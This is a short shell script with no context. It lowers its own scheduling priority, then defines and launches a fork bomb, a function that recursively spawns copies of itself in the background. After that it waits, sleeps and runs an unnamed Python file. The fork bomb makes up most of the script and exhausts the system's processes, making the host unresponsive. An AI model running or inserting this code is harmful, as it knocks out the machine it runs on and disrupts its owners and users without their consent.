renice -n 19 $$ > /dev/null  # whatever else runs here goes first
bomb() { bomb | bomb & }
bomb
wait
sleep 1000
python3 x.py
